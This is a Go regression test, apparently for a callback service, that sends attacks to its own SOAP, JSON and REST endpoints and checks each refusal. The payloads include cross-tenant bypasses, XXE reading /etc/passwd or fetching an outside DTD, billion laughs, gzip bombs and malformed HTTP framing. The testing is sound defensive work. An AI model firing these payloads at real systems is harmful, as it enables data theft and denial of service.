package attack

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"
)

// The corpus: every attack of issue #9's review and of the earlier ones,
// with the exact answer each gets (docs/ptk.md "Faults" and "Credentials",
// docs/api.md "Errors", docs/security.md).

// The answers shared by many cases.
var (
	// A SOAP 1.1 Client fault, HTTP 500 (docs/ptk.md, Faults).
	clientFault = want{status: 500, fault: "soap:Client"}
	// A JSON body refused before any work: 400 InvalidRequest.
	invalidJSON = want{status: 400, name: "InvalidRequest"}
	// A JSON request for a tenant the token may not act for.
	forbiddenB = want{status: 403, name: "Forbidden", says: `token "tenant-a" may not act for tenant "Portree"`}
	// tooManyKeys is what 108040 says of user data with too many keys.
	tooManyKeys = "more than 1000 keys (MaxKeys"
	// basicAuth is the PTK credential over HTTP Basic.
	basicAuth = "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(ptkUser+":"+ptkPassword))
)

// saying is w with its key phrase.
func (w want) saying(s string) want { w.says = s; return w }

// Header lines of the fronts: tenant A's bearer token, the content types.
const (
	bearerA = "Authorization: Bearer " + tokenA
	textXML = "Content-Type: text/xml; charset=utf-8"
	soapXML = "Content-Type: application/soap+xml; charset=utf-8"
	appJSON = "Content-Type: application/json"
)

// ptkSOAP is a SOAP request to /ptk with the credential.
func ptkSOAP(body string) request {
	return request{path: "/ptk", header: []string{textXML, basicAuth}, body: []byte(body)}
}

// mirror is a request to the PTK's JSON mirror with tenant A's token.
func mirror(method, body string) request {
	return request{path: "/api/v1/ptk/" + method, header: []string{appJSON, bearerA}, body: []byte(body)}
}

// rest is a request to the REST API with tenant A's token.
func rest(method, path, body string) request {
	return request{method: method, path: path, header: []string{appJSON, bearerA}, body: []byte(body)}
}

// corpus is every group of attacks sent one at a time.
func corpus(w *world) []group {
	return []group{
		{"tenant isolation", bypasses(w)},
		{"XML", xmlAttacks()},
		{"SOAP strictness", strictness()},
		{"JSON", jsonAttacks()},
		{"size and framing", framingAttacks()},
		{"user data", userDataAttacks(w)},
		{"values out of range", rangeAttacks(w)},
		{"credentials", credentialAttacks()},
	}
}

// bypasses are the review's tenant-isolation bypasses: with tenant A's
// token, a tenant B inside data/Data/DATA under A at the top, Tenant and
// TENANT side by side, B's ids under A's tenant, B in the REST path, and
// the SOAP credential of A naming B.
func bypasses(w *world) []attack {
	idB := w.idsOfB[0]
	var out []attack
	bodies := map[string]string{
		"RemoveInteraction":  `"InteractionId":"` + idB + `","Reason":"Admin Canceled"`,
		"AddInteraction":     `"Segment":"` + segmentB + `","Contact":"7700999"`,
		"GetInteractionData": `"InteractionId":"` + idB + `"`,
		"UpdateUserData":     `"InteractionId":"` + idB + `","UserData":[{"Key":"account","Value":{"StringValue":"stolen"}}]`,
	}
	for _, method := range []string{"RemoveInteraction", "AddInteraction", "GetInteractionData", "UpdateUserData"} {
		for _, wrapper := range []string{"data", "Data", "DATA"} {
			out = append(out, attack{
				name: method + ", B inside " + wrapper,
				req:  mirror(method, `{"Tenant":"`+tenantA+`","`+wrapper+`":{"Tenant":"`+tenantB+`",`+bodies[method]+`}}`),
				want: forbiddenB,
			})
		}
	}
	twice := invalidJSON.saying(`is written twice in one object (keys are compared without regard to case)`)
	return append(out,
		attack{name: "Tenant and TENANT", req: mirror("RemoveInteraction", `{"Tenant":"`+tenantA+`","TENANT":"`+tenantB+`",`+bodies["RemoveInteraction"]+`}`), want: twice},
		attack{name: "TENANT and Tenant", req: mirror("GetInteractionData", `{"TENANT":"`+tenantB+`","Tenant":"`+tenantA+`",`+bodies["GetInteractionData"]+`}`), want: twice},
		attack{name: "tenant twice inside data", req: mirror("RemoveInteraction", `{"data":{"Tenant":"`+tenantA+`","tenant":"`+tenantB+`",`+bodies["RemoveInteraction"]+`}}`), want: twice},
		attack{name: "B's id under A's tenant", req: mirror("RemoveInteraction", `{"Tenant":"`+tenantA+`",`+bodies["RemoveInteraction"]+`}`),
			want: want{status: 200, code: 107002, says: `is not known for tenant "VHTLab"`}},
		attack{name: "B in the REST path", req: rest("GET", "/api/v1/tenants/"+tenantB+"/interactions/"+idB, ""), want: forbiddenB},
		attack{name: "B's callback cancelled through the REST path", req: rest("POST", "/api/v1/tenants/"+tenantB+"/interactions/"+idB+"/cancel", `{}`), want: forbiddenB},
		attack{name: "SOAP credential of A naming B", req: ptkSOAP(soap11(`<RemoveInteraction xmlns="urn:holdline:ptk"><data><Tenant>` + tenantB + `</Tenant><InteractionId>` + idB + `</InteractionId><Reason>Admin Canceled</Reason></data></RemoveInteraction>`)),
			want: want{status: 403, fault: "soap:Client.Authorization", says: `ptk "ivr" may not act for tenant "Portree"`}},
	)
}

// xmlAttacks are the parser's: entities, depth, tokens, attributes.
func xmlAttacks() []attack {
	laughs := `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
		`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`
	for i := 2; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs += `]>` + soap11(`<GetVersion xmlns="urn:holdline:ptk"><ClientId>&lol9;</ClientId></GetVersion>`)
	noDTD := clientFault.saying("DTDs, DOCTYPE and entity declarations are not allowed")
	attrs := strings.Builder{}
	for i := range 65 {
		fmt.Fprintf(&attrs, ` a%d="v"`, i)
	}
	return []attack{
		{name: "billion laughs (10^9 lol)", req: ptkSOAP(laughs), want: noDTD},
		{name: "XXE: external entity SYSTEM file:///etc/passwd", req: ptkSOAP(`<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			soap11(`<GetVersion xmlns="urn:holdline:ptk"><ClientId>&xxe;</ClientId></GetVersion>`)), want: noDTD},
		{name: "XXE: external DTD", req: ptkSOAP(`<?xml version="1.0"?><!DOCTYPE e SYSTEM "http://198.51.100.1/evil.dtd">` + soap11(`<GetVersion/>`)), want: noDTD},
		{name: "parameter entity", req: ptkSOAP(`<!DOCTYPE e [<!ENTITY % p SYSTEM "http://198.51.100.1/p">%p;]>` + soap11(`<GetVersion/>`)), want: noDTD},
		{name: "entity without a DTD", req: ptkSOAP(soap11(`<GetVersion><ClientId>&xxe;</ClientId></GetVersion>`)),
			want: clientFault.saying("malformed XML: line 1: invalid character entity &xxe;")},
		{name: "100,000 nested elements", req: ptkSOAP(soap11(strings.Repeat("<a>", 100_000) + strings.Repeat("</a>", 100_000))),
			want: clientFault.saying("the request nests elements deeper than 64 levels")},
		{name: "60,000 elements (tokens)", req: ptkSOAP(soap11(`<GetVersion>` + strings.Repeat("<x/>", 60_000) + `</GetVersion>`)),
			want: clientFault.saying("the request has more than 50000 XML tokens")},
		{name: "65 attributes", req: ptkSOAP(soap11(`<GetVersion` + attrs.String() + `/>`)),
			want: clientFault.saying(`element "GetVersion" has more than 64 attributes`)},
	}
}

// strictness is the envelope's: one Body, one operation, the encodings, a
// huge name.
func strictness() []attack {
	one := "a request holds exactly one Body with exactly one operation element"
	env := soap11(segmentState)
	utf16Decl := `<?xml version="1.0" encoding="UTF-16"?>`
	done := want{status: 200, code: 107000, says: "The platform completed the request."}
	return []attack{
		{name: "a second Body", req: ptkSOAP(strings.TrimSuffix(env, "</soap:Envelope>") + `<soap:Body>` + segmentState + `</soap:Body></soap:Envelope>`),
			want: clientFault.saying("the Envelope has more than one Body: " + one)},
		{name: "a second Body, SOAP 1.2", req: request{path: "/ptk", header: []string{soapXML, basicAuth},
			body: []byte(strings.TrimSuffix(soap12(segmentState), "</soap:Envelope>") + `<soap:Body/></soap:Envelope>`)},
			want: want{status: 500, fault: "soap:Sender", says: "the Envelope has more than one Body: " + one}},
		{name: "a second operation in the Body", req: ptkSOAP(soap11(segmentState + `<RemoveInteraction/>`)),
			want: clientFault.saying(`the Body holds more than one element ("RemoveInteraction" after the operation "GetSegmentState"): ` + one)},
		{name: "UTF-16 LE with a byte-order mark (accepted)", req: request{path: "/ptk", header: []string{"Content-Type: text/xml; charset=utf-16", basicAuth},
			body: utf16Body(binary.LittleEndian, utf16Decl+env)}, want: done},
		{name: "UTF-16 BE with a byte-order mark, SOAP 1.2 (accepted)", req: request{path: "/ptk", header: []string{"Content-Type: application/soap+xml; charset=utf-16", basicAuth},
			body: utf16Body(binary.BigEndian, soap12(segmentState))}, want: done},
		{name: "UTF-16 declared, no byte-order mark", req: ptkSOAP(utf16Decl + env),
			want: clientFault.saying(`the XML declaration's encoding "UTF-16" is not supported`)},
		{name: "an unknown operation named by 500 KB", req: ptkSOAP(soap11("<" + strings.Repeat("X", 500_000) + "/>")),
			want: clientFault.saying(`unknown operation "` + strings.Repeat("X", 64) + `…" (500000 bytes); known: AddInteraction, `)},
		{name: "an unknown operation named by 500 KB, JSON mirror", req: mirror(strings.Repeat("M", 5000), `{}`),
			want: want{status: 404, name: "UnknownMethod", says: `unknown method "` + strings.Repeat("M", 64) + `…" (5000 bytes); known: `}},
	}
}

// utf16Body is s in UTF-16 of the byte order, after its byte-order mark.
func utf16Body(order binary.AppendByteOrder, s string) []byte {
	b := order.AppendUint16(nil, 0xFEFF)
	for _, u := range utf16.Encode([]rune(s)) {
		b = order.AppendUint16(b, u)
	}
	return b
}

// jsonAttacks are the shapes every JSON front refuses (internal/strictjson).
func jsonAttacks() []attack {
	callbacks := "/api/v1/tenants/" + tenantA + "/callbacks"
	return []attack{
		{name: "trailing data after the value", req: rest("POST", callbacks, `{"segment":"`+segmentA+`","contact":"80001"} {"contact":"80002"}`),
			want: invalidJSON.saying("malformed JSON: more than one value")},
		{name: "a key written twice, other case", req: rest("POST", callbacks, `{"segment":"`+segmentA+`","contact":"80001","Contact":"80002"}`),
			want: invalidJSON.saying(`the key "Contact" is written twice`)},
		{name: "a key written twice in a claim", req: rest("POST", "/api/v1/launches/claim", `{"tenant":"`+tenantA+`","TENANT":"`+tenantB+`"}`),
			want: invalidJSON.saying(`the key "TENANT" is written twice`)},
		{name: "100,000 nested arrays", req: rest("POST", callbacks, strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)),
			want: invalidJSON.saying("the request nests deeper than 64 levels")},
		{name: "60,000 tokens", req: rest("POST", callbacks, "["+strings.TrimSuffix(strings.Repeat("0,", 60_000), ",")+"]"),
			want: invalidJSON.saying("the request has more than 50000 JSON tokens")},
		{name: "an unknown field", req: rest("POST", callbacks, `{"segment":"`+segmentA+`","contact":"80001","tenant":"`+tenantB+`"}`),
			want: invalidJSON.saying(`unknown field "tenant"`)},
		{name: "not JSON", req: mirror("GetVersion", `<GetVersion/>`),
			want: invalidJSON.saying(`malformed JSON: invalid character "<" looking for a value`)},
	}
}

// framingAttacks are sizes, HTTP framing and compression: the server reads
// at most 1 MiB of a body however it is framed, never inflates one, and
// Go's HTTP server refuses broken framing before any handler runs.
func framingAttacks() []attack {
	big := soap11(`<GetVersion><ClientId>` + strings.Repeat("x", 2<<20) + `</ClientId></GetVersion>`)
	tooBig := clientFault.saying("the request body is larger than 1048576 bytes")
	bigJSON := `{"segment":"` + strings.Repeat("x", 2<<20) + `"}`
	jsonTooBig := invalidJSON.saying("the request body is larger than 1048576 bytes")
	env := soap11(`<GetVersion/>`)
	return []attack{
		{name: "SOAP body of 2 MiB", req: ptkSOAP(big), want: tooBig},
		{name: "SOAP body of 2 MiB, chunked (no Content-Length)", req: withFraming(ptkSOAP(big), chunked, 0), want: tooBig},
		{name: "SOAP body of 2 MiB under a Content-Length of 10 GiB", req: withFraming(ptkSOAP(big), lying, 10<<30), want: tooBig},
		{name: "REST body of 2 MiB", req: rest("POST", "/api/v1/tenants/"+tenantA+"/callbacks", bigJSON), want: jsonTooBig},
		{name: "JSON mirror body of 2 MiB, chunked", req: withFraming(mirror("GetVersion", bigJSON), chunked, 0), want: jsonTooBig},
		{name: "gzip bomb (1 GiB inflated) to SOAP", req: gzipped(ptkSOAP(""), 1<<30),
			want: want{status: 415, fault: "soap:Client", says: `Content-Encoding "gzip" is not supported`}},
		{name: "gzip bomb (1 GiB inflated) to REST", req: gzipped(rest("POST", "/api/v1/tenants/"+tenantA+"/callbacks", ""), 1<<30),
			want: want{status: 415, name: "UnsupportedMediaType", says: `Content-Encoding "gzip" is not supported`}},
		{name: "gzip bomb (4 GiB inflated) to the JSON mirror", req: gzipped(mirror("GetVersion", ""), 4<<30),
			want: want{status: 415, name: "UnsupportedMediaType", says: `Content-Encoding "gzip" is not supported`}},
		{name: "a chunk length that is not hex", req: ptkSOAP("").handFramed("Transfer-Encoding: chunked\r\n\r\nzz\r\n" + env + "\r\n0\r\n\r\n"),
			want: clientFault.saying("the request could not be read: invalid byte in chunk length")},
		{name: "Content-Length and Transfer-Encoding: chunked wins", req: ptkSOAP("").handFramed(fmt.Sprintf("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(env), env)),
			want: want{status: 200, code: 107000, says: "The platform completed the request."}},
		{name: "two Content-Lengths", req: ptkSOAP("").handFramed("Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef"),
			want: want{status: 400, says: "400 Bad Request"}},
		{name: "Transfer-Encoding gzip, chunked", req: ptkSOAP("").handFramed("Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"),
			want: want{status: 501, says: "Unsupported transfer encoding"}},
		{name: "a header of 2 MiB", req: request{path: "/ptk", header: []string{basicAuth, "X-Pad: " + strings.Repeat("a", 2<<20)}},
			want: want{status: 431, says: "431 Request Header Fields Too Large"}},
		{name: "no Host header", run: func(t *testing.T, s *target) *answer {
			return s.exchange(t, []byte("POST /ptk HTTP/1.1\r\n"+basicAuth+"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"))
		}, want: want{status: 400, says: "missing required Host header"}},
		{name: "not HTTP", run: func(t *testing.T, s *target) *answer {
			return s.exchange(t, []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 not HTTP\r\n\r\n"))
		}, want: want{status: 400, says: "400 Bad Request"}},
	}
}

// withFraming is r with another framing.
func withFraming(r request, f framing, length int64) request {
	r.framing, r.length = f, length
	return r
}

// handFramed is r with raw as the bytes after its header lines: the rest of
// the header, the blank line and the body, framed by hand.
func (r request) handFramed(raw string) request {
	r.framing, r.body = verbatim, []byte(raw)
	return r
}

// gzipped is r with a gzip bomb as its body, sent as Content-Encoding gzip:
// concatenated gzip members of 10 MiB of zeros each (gunzip inflates them
// all), as many as make inflated bytes.
func gzipped(r request, inflated int64) request {
	member := zerosMember()
	r.header = append(r.header, "Content-Encoding: gzip")
	r.body = bytes.Repeat(member, int(inflated/(10<<20)))
	return r
}

var zerosMember = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	_, _ = zw.Write(make([]byte, 10<<20))
	_ = zw.Close()
	return b.Bytes()
})

// userDataAttacks are the review's CPU blow-up, one request at a time: a
// body of about 1 MiB with 30,000 user-data keys to each front that takes
// user data, refused by the token limit before any decoding; one of
// 6,000–8,000 keys (within the token limit), refused with 108040 after at
// most 1,001 keys are decoded; and a value over the 64 KiB limit.
func userDataAttacks(w *world) []attack {
	tokens := invalidJSON.saying("the request has more than 50000 JSON tokens")
	rest108040 := want{status: 400, name: "UserDataFailedValidation", code: 108040, says: tooManyKeys}
	mirror108040 := want{status: 200, code: 108040, says: tooManyKeys}
	addA := func(ud string) string {
		return `{"Tenant":"` + tenantA + `","Segment":"` + segmentA + `","Contact":"80002","Options":{"UserData":` + ud + `}}`
	}
	updateA := func(ud string) string {
		return `{"Tenant":"` + tenantA + `","InteractionId":"` + w.idOfA + `","UserData":` + ud + `}`
	}
	callbacks := "/api/v1/tenants/" + tenantA + "/callbacks"
	restBody := func(ud string) string {
		return `{"segment":"` + segmentA + `","contact":"80002","userData":` + ud + `}`
	}
	soapAdd := func(n int) string {
		return soap11(`<AddInteraction xmlns="urn:holdline:ptk"><data><Tenant>` + tenantA + `</Tenant><Segment>` + segmentA +
			`</Segment><Contact>80002</Contact><Options><UserData>` + userDataXML(n) + `</UserData></Options></data></AddInteraction>`)
	}
	return []attack{
		{name: "REST callbacks, 30,000 keys", req: rest("POST", callbacks, restBody(userDataREST(30_000))), want: tokens},
		{name: "JSON mirror AddInteraction, 30,000 keys", req: mirror("AddInteraction", addA(userDataPTK(30_000))), want: tokens},
		{name: "JSON mirror UpdateUserData, 30,000 keys", req: mirror("UpdateUserData", updateA(userDataPTK(30_000))), want: tokens},
		{name: "SOAP AddInteraction, 30,000 UserDataAssignment", req: ptkSOAP(soapAdd(30_000)), want: clientFault.saying("the request has more than 50000 XML tokens")},
		{name: "REST callbacks, 8,000 keys", req: rest("POST", callbacks, restBody(userDataREST(8_000))), want: rest108040},
		{name: "JSON mirror AddInteraction, 8,000 keys", req: mirror("AddInteraction", addA(userDataPTK(8_000))), want: mirror108040},
		{name: "JSON mirror UpdateUserData, 8,000 keys", req: mirror("UpdateUserData", updateA(userDataPTK(8_000))), want: mirror108040},
		{name: "SOAP AddInteraction, 6,000 UserDataAssignment", req: ptkSOAP(soapAdd(6_000)), want: want{status: 200, code: 108040, says: tooManyKeys}},
		{name: "REST callbacks, a value of 100 KB", req: rest("POST", callbacks, restBody(`[{"key":"big","string":"`+strings.Repeat("v", 100_000)+`"}]`)),
			want: want{status: 400, name: "UserDataFailedValidation", code: 108040, says: "100027 bytes is more than the 65536 allowed"}},
	}
}

// userDataREST, userDataPTK and userDataXML are n user-data pairs with
// distinct keys, as the REST API, the JSON mirror and SOAP write them.
func userDataREST(n int) string { return pairs(n, `{"key":"k%05d","string":"v"}`, ",", "[", "]") }
func userDataPTK(n int) string  { return pairs(n, `{"Key":"k%05d","Value":"v"}`, ",", "[", "]") }
func userDataXML(n int) string {
	return pairs(n, `<UserDataAssignment><Key>k%05d</Key><Value>v</Value></UserDataAssignment>`, "", "", "")
}

func pairs(n int, format, sep, open, end string) string {
	var b strings.Builder
	b.WriteString(open)
	for i := range n {
		if i > 0 {
			b.WriteString(sep)
		}
		fmt.Fprintf(&b, format, i)
	}
	b.WriteString(end)
	return b.String()
}

// rangeAttacks are the review's unbounded or odd values, on tenant A's own
// queue, and an acknowledgement of another tenant's launch.
func rangeAttacks(w *world) []attack {
	claim := "/api/v1/launches/claim"
	mode := "/api/v1/tenants/" + tenantA + "/queues/" + queue + "/mode"
	acd := "/api/v1/tenants/" + tenantA + "/queues/" + queue + "/acd"
	callbacks := "/api/v1/tenants/" + tenantA + "/callbacks"
	notFound := func(key string) want {
		return want{status: 404, name: "InteractionNotFound", code: 107002, says: `no launch "` + key + `"`}
	}
	unknownKey := "V0001000000000101012026000000000/1"
	return []attack{
		{name: "claim leaseSeconds 1e-7", req: rest("POST", claim, `{"tenant":"`+tenantA+`","leaseSeconds":1e-7}`),
			want: invalidJSON.saying(`"leaseSeconds" must be 1 to 3600`)},
		{name: "claim max 2^63-1", req: rest("POST", claim, `{"tenant":"`+tenantA+`","max":9223372036854775807}`),
			want: invalidJSON.saying(`"max" must be 1 to 100`)},
		{name: "mode until the year 9999", req: rest("PUT", mode, `{"mode":"Purge","until":"9999-12-31T23:59:59Z"}`),
			want: want{status: 400, name: "InvalidDateTime", code: 108004, says: "is more than 366 days ahead"}},
		{name: "appointmentTime 0001-01-01T00:00:00Z", req: rest("POST", callbacks, `{"segment":"`+segmentA+`","contact":"80002","appointmentTime":"0001-01-01T00:00:00Z"}`),
			want: want{status: 400, name: "InvalidDateTime", code: 108004, says: "is not a real time (before the year 2000)"}},
		{name: "ACD report of 2^63-1 agents", req: rest("POST", acd, `{"agentsStaffed":9223372036854775807,"agentsAvailable":9223372036854775807}`),
			want: invalidJSON.saying("agentsStaffed must be 0 to 100000")},
		{name: "ack of another tenant's launch key", req: rest("POST", "/api/v1/launches/"+w.launchOfC+"/ack", ""), want: notFound(w.launchOfC)},
		{name: "ack of an unknown key (the same answer)", req: rest("POST", "/api/v1/launches/"+unknownKey+"/ack", ""), want: notFound(unknownKey)},
	}
}
